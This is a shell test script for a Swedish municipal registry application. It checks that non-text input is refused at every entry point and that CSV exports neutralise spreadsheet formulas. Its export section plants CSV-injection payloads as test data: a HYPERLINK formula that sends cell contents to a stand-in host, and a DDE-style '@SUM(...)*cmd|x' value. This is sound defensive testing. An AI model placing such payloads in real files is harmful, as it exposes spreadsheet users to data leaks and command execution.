#!/bin/sh
# t0040 — only text gets in, at every boundary: a control character, a NUL
# or bytes that are not UTF-8 in a CLI argument, a web form field, a query
# argument, an uploaded file's name, an API body, a JSON-lines or a CSV
# import are refused with one clear answer and nothing is stored. Importers
# are strict about what they cannot read ("secret":"yes", doc_no 0) and
# accept a byte order mark. CSV exports never hand a spreadsheet a formula.
TEST_NAME=text-input
. "$(dirname "$0")/lib.sh"

export KANSLI_NOW=2026-11-02
k init "$KANSLI_DATA" >/dev/null
k org add kommun "Kommunen" >/dev/null
k series add KS "Kommunstyrelsen" >/dev/null
echo "Losenord-for-rita" | k user add rita "Rita Registrator" --password-stdin >/dev/null
k user grant rita registrator >/dev/null
RT=$(k token add rita robot --days 30)
c=$(k case open --series KS --title "Bygglov Storgatan 1")
stored() { echo "$(sql "SELECT count(*) FROM event"):$(sql "SELECT count(*) FROM case_file"):$(sql "SELECT count(*) FROM record"):$(sql "SELECT count(*) FROM document_request"):$(sql "SELECT count(*) FROM notice")"; }
before=$(stored)

# ---- CLI arguments ----
fails "a control character in an argument" "the value of --title is not text" k case open --series KS --title "$(printf 'Bygglov\001')"
same "refused as bad input (exit 2)" "2" "$(k case open --series KS --title "$(printf 'a\033[31mb')" >/dev/null 2>&1; echo $?)"
fails "bytes that are not UTF-8" "not text: invalid UTF-8" k case open --series KS --title "$(printf 'Bygglov \377')"
fails "an overlong encoding of '/'" "not text" k record add "$c" --direction in --title "$(printf 'a\300\257b')"
fails "a C1 control character" "not text" k case open --series KS --title "$(printf 'a\302\205b')"
fails "DEL" "not text" k case open --series KS --title "$(printf 'a\177b')"
fails "an option's value after =" "the value of --title is not text: .* at byte 0" k case open --series KS "$(printf -- '--title=\001')"
fails "a positional argument" "an argument is not text" k record show "$(printf 'KS\0012026')"
same "nothing stored from the shell" "$before" "$(stored)"
ok "a title with Swedish letters and a tab is text" k case open --series KS --title "$(printf 'Åtgärd\tför ö')"
fails "a newline where one line is wanted is core's to refuse" "one line" k notice post --kind other --board KS \
	--title "$(printf 'rad 1\nrad 2')"
before=$(stored)

# ---- the web: form fields, query arguments, file names, JSON ----
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
"$KANSLI" serve --port "$port" --quiet 2>"$T/serve.log" &
pid=$!
trap 'kill $pid 2>/dev/null; rm -rf "$T"' EXIT
U="http://127.0.0.1:$port"
i=0
until curl -fs "$U/healthz" >/dev/null 2>&1 || [ $i -ge 100 ]; do sleep 0.1; i=$((i + 1)); done
code() { curl -s -o "$T/body" -w '%{http_code}' "$@"; }

curl -s -c "$T/jar" -o "$T/form" "$U/offentlig/begar?org=kommun"
tok=$(sed -n 's/.*name="token" value="\([0-9a-f]*\)".*/\1/p' "$T/form")
same "a control character in a form field: the form back, 422" "422" "$(code -b "$T/jar" --data-urlencode "token=$tok" \
	--data-urlencode org=kommun --data-urlencode "meddelande=$(printf 'Jag vill se\001 anbudet')" "$U/offentlig/begar")"
grep -q "Fältet ”Vilka handlingar” innehöll tecken som inte är text" "$T/body" && grep -q "Jag vill se anbudet" "$T/body" \
	&& pass "the page names the field by its label, in Swedish, and keeps the text without the character" \
	|| fail "Swedish message ($(head -c 300 "$T/body"))"
same "a NUL in a form field: the form back, 422" "422" "$(code -b "$T/jar" --data "token=$tok&org=kommun&meddelande=ab%00cd" "$U/offentlig/begar")"
same "invalid UTF-8 in a form field: the form back, 422" "422" "$(code -b "$T/jar" --data "token=$tok&org=kommun&meddelande=ab%FFcd" "$U/offentlig/begar")"
same "a bad field name: 400" "400" "$(code -b "$T/jar" --data "token=$tok&org=kommun&meddelande=X&a%01b=1" "$U/offentlig/begar")"
grep -q "Ett fältnamn innehåller" "$T/body" && pass "a bad name is not echoed" || fail "bad name message"
same "a multi-line message is text" "200" "$(code -b "$T/jar" --data-urlencode "token=$tok" --data-urlencode org=kommun \
	--data-urlencode "meddelande=$(printf 'Rad ett\r\nRad två\tmed tabb')" "$U/offentlig/begar")"
same "the accepted request is stored" "1" "$(sql "SELECT count(*) FROM document_request")"
before=$(stored)
same "invalid UTF-8 in a query argument: 400" "400" "$(code "$U/offentlig/diarium?org=kommun&q=%C3%28")"
same "a control character in a query argument: 400" "400" "$(code "$U/offentlig/diarium?org=kommun&q=a%1Bb")"
same "a plain search still works" "200" "$(code "$U/offentlig/diarium?org=kommun&q=bygglov")"
printf 'ritning\n' >"$T/ritning.txt"
same "a control character in an uploaded file's name: 400" "400" "$(code -H "Authorization: Bearer $RT" \
	-F "arende=$c" -F riktning=in -F rubrik=Ritning -F "fil=@$T/ritning.txt;filename=$(printf 'rit\001ning.txt')" \
	"$U/registrera?org=kommun")"
same "a tab in an uploaded file's name: 400 (a name is one line)" "400" "$(code -H "Authorization: Bearer $RT" \
	-F "arende=$c" -F riktning=in -F rubrik=Ritning -F "fil=@$T/ritning.txt;filename=$(printf 'rit\tning.txt')" \
	"$U/registrera?org=kommun")"
json() { code -H "Authorization: Bearer $RT" -H 'Content-Type: application/json' --data-binary "$1" "$U/api/v1/cases?org=kommun"; }
same "API: an escaped control character: 400" "400" "$(json '{"series":"KS","title":"Bygglov\u0007"}')"
grep -q '"code": *"bad_text"' "$T/body" && grep -q 'the value of \\"title\\"' "$T/body" \
	&& pass "API: a JSON error naming the field" || fail "API error ($(cat "$T/body"))"
same "API: an escaped NUL: 400" "400" "$(json '{"series":"KS","title":"a\u0000b"}')"
same "API: raw invalid UTF-8: 400" "400" "$(json "$(printf '{"series":"KS","title":"a\377b"}')")"
same "API: a control character in a key: 400" "400" "$(json '{"series":"KS","title":"X","a\u0001":1}')"
same "API: a control character in a nested value: 400" "400" \
	"$(code -H "Authorization: Bearer $RT" -H 'Content-Type: application/json' \
	--data-binary "{\"case\":\"$c\",\"direction\":\"in\",\"title\":\"X\",\"party\":{\"kind\":\"person\",\"name\":\"A\\u001fB\"}}" \
	"$U/api/v1/records?org=kommun")"
same "the web stored nothing it refused" "$before" "$(stored)"
same "API: text is accepted" "201" "$(json '{"series":"KS","title":"Bygglov \u00c5sen, två"}')"

# ---- JSON-lines import ----
line() { # line DNR DOC_NO SECRET TITLE: one gen-diarium line
	printf '{"dnr":"%s","doc_no":%s,"series":"KS","case_title":"Import","date":"2020-01-02","direction":"inkommande","party_type":"","doc_title":"%s","secret":%s,"osl":"OSL 26 kap. 1 §"}\n' "$1" "$2" "$4" "$3"
}
before=$(stored)
{ line "KS 2020/0001" 1 false "Ett"; line "KS 2020/0001" 2 '"yes"' "Två"; } >"$T/secret.jsonl"
fails "\"secret\":\"yes\" rejects its line, naming line and field" 'line 2: "secret" must be true or false, not "yes"' \
	k import "$T/secret.jsonl"
{ line "KS 2020/0001" 1 '"ja"' "Ett"; } >"$T/ja.jsonl"
fails "\"secret\":\"ja\" too" '"secret" must be true or false' k import "$T/ja.jsonl"
{ line "KS 2020/0001" 1 2 "Ett"; } >"$T/two.jsonl"
fails "\"secret\":2 too" '"secret" must be true or false' k import "$T/two.jsonl"
{ line "KS 2020/0001" 0 false "Ett"; } >"$T/zero.jsonl"
fails "doc_no 0 is rejected" 'line 1: "doc_no" must be a record number from 1' k import "$T/zero.jsonl"
{ line "KS 2020/0001" 1 false 'Ett\u0008'; } >"$T/ctl.jsonl"
fails "a control character in a JSON line" 'line 1: "doc_title" is not text' k import "$T/ctl.jsonl"
{ line "KS 2020/0001" 1 false "Ett"; printf '{"dnr":"KS 2020/0001","doc_no":2,"doc_title":"a\377"}\n'; } >"$T/utf.jsonl"
fails "invalid UTF-8 in a JSON line" "line 2: not a JSON object" k import "$T/utf.jsonl"
same "the refused imports stored nothing" "$before" "$(stored)"
{ printf '\357\273\277'; line "KS 2020/0001" 1 false "Ett"; line "KS 2020/0001" 2 true "Hemlig"; line "KS 2020/0001" 3 0 "Tre"; \
  line "KS 2020/0001" null 1 "Nästa"; } >"$T/bom.jsonl"
ok "a byte order mark starts a JSON-lines file" k import "$T/bom.jsonl"
same "true and 1 are secret, false and 0 are not" "Ett:none,Hemlig:partial,Tre:none,Nästa:partial" \
	"$(sql "SELECT group_concat(title || ':' || secrecy, ',') FROM (SELECT r.title, r.secrecy FROM record r JOIN case_file c ON c.id = r.case_id WHERE c.year = 2020 ORDER BY r.seq)")"
same "doc_no null takes the next number" "4" "$(sql "SELECT seq FROM record WHERE title = 'Nästa'")"

# ---- CSV import ----
head -1 "$(dirname "$0")/../data/legacy-registry.csv" >"$T/head.csv"
cp "$T/head.csv" "$T/ctl.csv"
printf 'KS 2019/0001;1;Ärende;Rubrik\001;2019-01-02;I;;;;;;Öppen;;\n' >>"$T/ctl.csv"
before=$(stored)
fails "a control character in a CSV import" "line 2: a control character (U+0001)" k import --format csv "$T/ctl.csv"
cp "$T/head.csv" "$T/legacy.csv"
printf 'KS 2019/0001;1;Ärende;Rubrik;2019-01-02;I;;;;;;Öppen;;hemlig\n' >>"$T/legacy.csv"
printf 'KS 2019/0001;2;Ärende;Rubrik;2019-01-02;I;;;;;;Öppen;;ja\n' >>"$T/legacy.csv"
printf 'KS 2019/0001;3;Ärende;Rubrik;2019-01-02;I;;;;;;Öppen;;nej\n' >>"$T/legacy.csv"
fails "a CSV import with unreadable secrecy imports nothing" "2 of 3 rows rejected (first: line 2: secrecy 'hemlig'" \
	k import --format csv "$T/legacy.csv"
grep -q "rejected line 2: secrecy 'hemlig' is neither" "$T/out" && grep -q "rejected line 3: secrecy needs its legal ground" "$T/out" \
	&& pass "an unreadable secrecy value rejects its row, naming the field" || fail "secrecy rows ($(cat "$T/out"))"
same "the CSV import stored nothing" "$before" "$(stored)"

# ---- CSV exports: no formulas for the spreadsheet ----
k record add "$c" --direction in --title '=HYPERLINK("http://x.example/?"&A1;"Klicka")' --organisation '@SUM(1+1)*cmd|x' >/dev/null
k record add "$c" --direction in --title '-2+3' --organisation '+46 70 123' >/dev/null
curl -s -H "Authorization: Bearer $RT" "$U/handlingar?org=kommun&format=csv" >"$T/records.csv"
grep -q "\"'=HYPERLINK(\"\"http" "$T/records.csv" && grep -q "\"'@SUM(1+1)" "$T/records.csv" \
	&& grep -q "\"'-2+3\"" "$T/records.csv" && grep -q "\"'+46 70 123\"" "$T/records.csv" \
	&& pass "the records export guards formulas with an apostrophe" || fail "records CSV ($(cat "$T/records.csv"))"
grep -q '"KS 2026/0001-1"' "$T/records.csv" && pass "plain cells are untouched" || fail "plain cells"
cat >"$T/plan.csv" <<'CSV'
klass;benämning;handlingstyp;åtgärd;gallringsfrist;beslut;behåll_registrering
3.2.1;=Bygglov;;gallras;10;@KF 2025-03-12 § 45;ja
3.2.2;''=Citerad;;bevaras;;;
CSV
echo "Losenord-for-arne" | k user add arne "Arne Arkivarie" --password-stdin >/dev/null
k user grant arne arkivarie >/dev/null
ok "a schedule with formula-like text imports" k --user arne retention schedule import "$T/plan.csv"
k --user arne retention schedule export --output "$T/export.csv" >/dev/null
grep -q "^3.2.1;'=Bygglov;;gallras;10;'@KF 2025-03-12 § 45;ja" "$T/export.csv" \
	&& pass "the schedule export guards formulas" || fail "schedule CSV ($(cat "$T/export.csv"))"
grep -q "^3.2.2;''=Citerad;" "$T/export.csv" && pass "an apostrophe of its own is kept by a second one" \
	|| fail "apostrophe escape ($(cat "$T/export.csv"))"
ok "the export imports again" k --user arne retention schedule import "$T/export.csv"
same "and reads back as the same text" "=Bygglov|'=Citerad" "$(sql "SELECT group_concat(title, '|') FROM (SELECT title FROM class WHERE code IN ('3.2.1','3.2.2') ORDER BY code)")"
ok "verify" k verify
